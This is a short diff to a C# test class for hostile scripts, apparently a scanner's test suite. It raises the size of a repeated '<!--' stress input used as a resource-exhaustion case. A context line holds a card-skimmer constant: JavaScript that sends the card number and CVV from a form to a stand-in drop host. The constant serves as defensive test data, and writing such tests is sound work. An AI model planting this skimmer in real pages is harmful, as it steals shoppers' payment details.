@@ -14,7 +14,7 @@ public sealed class HostileScriptTests
 {
     private const string Url = "https://cdn.example/t.js";
     private const string Skimmer = "document.forms[0].onsubmit = function () { fetch('https://drop.example/x.gif', { method: 'POST', body: document.querySelector('#card_number').value + document.querySelector('[name=cvv]').value }); };\n";
-    private static readonly string _deadly = string.Concat(Enumerable.Repeat("<!--\n", 20_000)) + "a=1";
+    private static readonly string _deadly = string.Concat(Enumerable.Repeat("<!--\n", 400_000)) + "a=1";
 
     private static CancellationToken Cancel => TestContext.Current.CancellationToken;
 
